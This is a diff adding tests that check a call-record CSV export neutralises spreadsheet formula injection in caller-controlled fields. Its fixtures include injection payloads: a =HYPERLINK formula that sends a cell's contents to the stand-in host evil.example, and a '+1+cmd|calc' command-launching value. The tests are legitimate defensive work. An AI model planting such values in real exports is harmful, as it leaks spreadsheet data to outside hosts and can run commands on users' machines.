@@ -539,6 +539,79 @@ t.test('admin CDRs', async (t) => {
   });
 });
 
+t.test('the CSV neutralises spreadsheet formulas in caller-controlled cells', async (t) => {
+  const SECRET = 'sekret-sekret-sekret-123';
+  const { app, admin, db } = await buildTestApp(t, { EXOTEL_CALLBACK_SECRET: SECRET });
+  const csvRows = async (query: string) => {
+    const res = await admin({ method: 'GET', url: `/admin/cdrs.csv?${query}` });
+    t.equal(res.statusCode, 200, query);
+    const [header, ...rows] = parseCsv(res.body);
+    return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
+  };
+  const TEXT_COLUMNS = [
+    'endpoint',
+    'flow_slug',
+    'call_sid',
+    'call_from',
+    'call_to',
+    'direction',
+    'digits',
+    'dial_call_status',
+    'dial_whom_number',
+    'outcome',
+    'matched_rule',
+    'reason',
+    'response_body',
+  ];
+  const insert = (values: Record<string, string>) =>
+    db.pool.query(
+      `INSERT INTO cdrs (${TEXT_COLUMNS.join(', ')}, legs, params, http_status, handling_ms, idempotency_key)
+       VALUES (${TEXT_COLUMNS.map((_, i) => `$${i + 1}`).join(', ')}, $14::json, $15::json, 200, 1.5, $3)`,
+      [...TEXT_COLUMNS.map((c) => values[c]!), values.legs!, values.params!],
+    );
+
+  t.test('a refused callback cannot plant a formula in the export', async (t) => {
+    const sid = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")';
+    const query = `token=wrong&CallSid=${encodeURIComponent(sid)}&Direction=${encodeURIComponent('@SUM(1+1)')}&digits=${encodeURIComponent('"=1+1"')}`;
+    const cb = await app.inject({ method: 'GET', url: `/exotel/passthru/inbound?${query}` });
+    t.equal(cb.statusCode, 401, 'the callback is refused (wrong secret) but leaves a CDR');
+    const [row, ...more] = await csvRows(`callSid=${encodeURIComponent(sid)}`);
+    t.equal(more.length, 0);
+    t.equal(row?.call_sid, `'${sid}`, 'the CallSid is text, quoted with a leading apostrophe');
+    t.equal(row?.direction, "'@sum(1+1)", 'Direction (stored lower-cased) too');
+    t.equal(row?.digits, "'=1+1", 'and the digits (stored without their quotes)');
+  });
+
+  t.test('every text and JSON column gets a leading apostrophe before =, +, -, @, tab or carriage return', async (t) => {
+    const starts = ['=1+1', '+1+cmd|calc', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '+', '-1.', '+91 98123 45678'];
+    const values: Record<string, string> = Object.fromEntries(TEXT_COLUMNS.map((c, i) => [c, `${starts[i % starts.length]!}#${c}`]));
+    values.call_sid = '=formula-row';
+    values.legs = '\t["=1+1"]'; // json keeps its text as sent, leading whitespace included
+    values.params = '\r{"CallSid":"=formula-row"}';
+    await insert(values);
+    const [row] = await csvRows('callSid=%3Dformula-row');
+    for (const column of [...TEXT_COLUMNS, 'legs', 'params']) t.equal(row?.[column], `'${values[column]}`, column);
+  });
+
+  t.test('plain numbers, such as E.164 numbers, and other text stay as stored', async (t) => {
+    const values: Record<string, string> = Object.fromEntries(TEXT_COLUMNS.map((c) => [c, `plain ${c} =1+1`]));
+    Object.assign(values, {
+      call_sid: 'numbers-row',
+      call_from: '+919812345678',
+      call_to: '-5',
+      digits: '42',
+      dial_whom_number: '+919800000011',
+      response_body: '-12.50',
+      reason: '+3.25',
+      legs: '-5',
+      params: '{"CallFrom":"=1+1"}',
+    });
+    await insert(values);
+    const [row] = await csvRows('callSid=numbers-row');
+    for (const column of [...TEXT_COLUMNS, 'legs', 'params']) t.equal(row?.[column], values[column], column);
+  });
+});
+
 t.test('CSV export at volume', async (t) => {
   const { app, db } = await buildTestApp(t);
   const ROWS = 200_000;
